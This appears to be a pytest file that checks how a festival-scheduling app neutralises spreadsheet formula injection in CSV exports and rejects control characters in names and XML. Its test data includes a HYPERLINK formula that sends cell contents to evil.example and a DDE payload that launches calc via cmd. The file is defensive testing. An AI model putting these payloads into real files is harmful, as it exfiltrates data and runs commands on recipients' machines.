"""Exports that cannot hurt the programs that open them, and imports that take back what we export: formula
cells neutralised the OWASP way (and restored by the import), control characters kept out of names and of
schedule.xml, an unclosed quote reported where it opened, and large files either imported or refused with the
limit next to the file field."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from app.models import Event
from tests.identity.test_pages import client_for, csrf_token, log_in, text
from tests.portal.test_imports import HEADER, confirm, events_of, statuses, upload

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ACTS = [
    "Großstadtgeflüster",
    "Die Fantastischen Vier und das Kammerorchester Lübeck",
    "Querbeat",
    "Schmidbauer & Kälberer",
    "Annenmaykantereit",
    "Bläck Fööss",
    "Jürgen von der Lippe liest Märchen",
    "Wanda",
    "Kraftklub",
    "Seeed",
    "Bilderbuch",
    "Von Wegen Lisbeth",
    "Das Lumpenpack",
    "Faber",
    "Erdmöbel",
    "Tocotronic",
    "Element of Crime",
    "Provinz",
    "Giant Rooks",
    "Die Höchste Eisenbahn",
]
# What a hostile or careless organizer types: formulas a spreadsheet would run when the CSV is opened.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Tickets")',
    "+49 341 Hotline",
    "-Ölfass Trommelgruppe",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def csv_line(name: str, hour: int, stage: str, artists: str = "", kind: str = "0", description: str = "") -> str:
    rows = io.StringIO()
    csv.writer(rows, lineterminator="\n").writerow(
        [name, "2027-07-16", f"{hour:02d}:00", f"{hour:02d}:45", stage, artists, kind, description]
    )
    return rows.getvalue()


@pytest.fixture
def festival(factory, creator):
    return factory.create("festival", creator, name="Sommerfestival Würzburg", timezone="Europe/Berlin")["festival_id"]


def data_cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text)))[1:]


def test_exported_formula_cells_are_neutralised_and_reimport_unchanged(browser_client, festival):
    lines = [csv_line(act, 10 + number % 12, "Große Bühne am Main", act) for number, act in enumerate(ACTS)]
    lines += [
        csv_line(name, 10 + number, f"=Zelt {number}", "-Frühschicht", "-1", "=1+2 – Einlass ab 17:30")
        for number, name in enumerate(HOSTILE)
    ]
    preview = upload(browser_client, festival, HEADER + "".join(lines))
    assert [status for status, _ in statuses(preview)] == ["new"] * 24
    assert confirm(browser_client, festival, preview).status_code == 303
    assert set(HOSTILE) <= set(events_of(festival))

    exported = browser_client.get(f"/festivals/{festival}/export/events.csv").data.decode("utf-8-sig")
    cells = [cell for row in data_cells(exported) for cell in row]
    assert len(data_cells(exported)) == 24
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert {"'" + name for name in HOSTILE} <= set(cells) and "'-1" in cells and "'=Zelt 0" in cells

    again = upload(browser_client, festival, exported)
    assert [status for status, _ in statuses(again)] == ["unchanged"] * 24
    event = events_of(festival)[HOSTILE[0]]
    assert (event.type, event.description) == (-1, "=1+2 – Einlass ab 17:30")


def test_a_leading_quote_of_our_own_survives_the_round_trip(browser_client, factory, festival, creator):
    names = ["'=schon zitiert", "'Nachtcafé", "''+zweimal"]
    stage = factory.create("location", creator, name="Innenhof")["location_id"]
    for number, name in enumerate(names):
        start = 1_815_900_000 + number * 3600  # 2027-07-18 in Europe/Berlin
        event = factory.create("event", creator, name=name, start=start, end=start + 1800)["event_id"]
        factory.link("festival", festival, "events", event, creator)
        factory.link("event", event, "location", stage, creator)
    exported = browser_client.get(f"/festivals/{festival}/export/events.csv").data.decode("utf-8-sig")
    assert [row[0] for row in data_cells(exported)] == ["''=schon zitiert", "'Nachtcafé", "'''+zweimal"]
    preview = upload(browser_client, festival, exported)
    assert [status for status, _ in statuses(preview)] == ["unchanged"] * 3
    assert set(events_of(festival)) == set(names)


def test_schedule_xml_is_well_formed_when_stored_names_hold_control_characters(browser_client, festival):
    preview = upload(browser_client, festival, HEADER + csv_line("Frühstück mit Ölbild", 9, "Kleine Bühne"))
    confirm(browser_client, festival, preview)
    # stored before names refused them (PostgreSQL cannot store NUL at all)
    Event.update(name="Früh\x0bstück\x1b[31m mit Ölbild", description="Bell\x07 und\x08los").execute()
    response = browser_client.get(f"/festivals/{festival}/export/schedule.xml")
    assert response.status_code == 200
    root = ET.fromstring(response.data)  # raises on characters XML 1.0 forbids
    assert root.find(".//event/title").text == "Frühstück[31m mit Ölbild"
    assert root.find(".//event/description").text == "Bell undlos"


def test_names_with_control_characters_are_refused_with_a_field_error(client, factory, festival, creator):
    headers = factory.bearer(creator)
    for entity, value in (("artist", "Die Ärzte\x07"), ("location", "Bühne\x1b"), ("event", "Tanz\x0cabend")):
        response = client.post(f"/api/v1/{entity}s", json={f"{entity}_name": value}, headers=headers)
        assert response.status_code == 400, response.get_json()
        assert response.get_json()["fields"] == {f"{entity}_name": "must not contain control characters"}
    response = client.patch(f"/api/v1/festivals/{festival}", json={"festival_name": "Fest\x08ival"}, headers=headers)
    assert response.status_code == 400 and "festival_name" in response.get_json()["fields"]


def test_import_rows_with_control_characters_say_so(browser_client, festival):
    rows = csv_line("Lesung", 11, "Saal\x1b") + csv_line("Konzert", 12, "Saal", "Chor\x07") + csv_line("Ok", 13, "Saal")
    preview = upload(browser_client, festival, HEADER + rows)
    assert statuses(preview) == [
        ("error", "Stage must not contain control characters"),
        ("error", "Artist name must not contain control characters"),
        ("new", "Added"),
    ]


def test_an_unclosed_quote_names_the_line_where_it_opened(browser_client, festival):
    rows = (
        csv_line("Eröffnung", 10, "Große Bühne")
        + 'Matinee,2027-07-16,11:00,11:45,"Große Bühne,,0,\n'
        + csv_line("Mittagskonzert", 12, "Große Bühne")
        + csv_line("Abendkonzert", 20, "Große Bühne")
    )
    response = upload(browser_client, festival, HEADER + rows)
    assert response.status_code == 422
    assert "A quote opened on line 3 is never closed" in text(response)
    assert Event.select().count() == 0


def test_an_import_over_the_limit_says_so_next_to_the_file_field(make_app, creator):
    app = make_app(MAX_IMPORT_BYTES=200_000)
    client = client_for(app)
    assert log_in(client, creator.email).status_code == 303
    with app.app_context():
        from tests.factories import Factory

        festival = Factory(app).create("festival", creator, name="Großes Fest")["festival_id"]
    token = csrf_token(client, f"/festivals/{festival}/import")
    big = (HEADER + csv_line("Lange Nacht", 20, "Bühne", description="ä" * 150_000)).encode()
    response = client.post(
        f"/festivals/{festival}/import",
        content_type="multipart/form-data",
        data={"csrf_token": token, "file": (io.BytesIO(big), "programm.csv")},
    )
    assert response.status_code == 413
    page = text(response)
    assert "The file is larger than the import limit of 195 KiB" in page
    assert 'name="file"' in page  # the form again, with the message at its file field


def test_an_export_over_one_mebibyte_imports_again(browser_client, festival):
    description = "Ein Abend voller Lieder über Flüsse, Fähren und Fernweh. " * 900  # about 52 KB
    lines = [
        csv_line(act, 10 + number % 12, "Große Bühne am Main", act, description=description)
        for number, act in enumerate(ACTS)
    ]
    preview = upload(browser_client, festival, HEADER + "".join(lines))
    assert confirm(browser_client, festival, preview).status_code == 303
    exported = browser_client.get(f"/festivals/{festival}/export/events.csv").data
    assert len(exported) > 1024 * 1024
    token = csrf_token(browser_client, f"/festivals/{festival}/import")
    again = browser_client.post(
        f"/festivals/{festival}/import",
        content_type="multipart/form-data",
        data={"csrf_token": token, "file": (io.BytesIO(exported), "export.csv")},
    )
    assert again.status_code == 200, text(again)[:300]
    assert [status for status, _ in statuses(again)] == ["unchanged"] * len(ACTS)
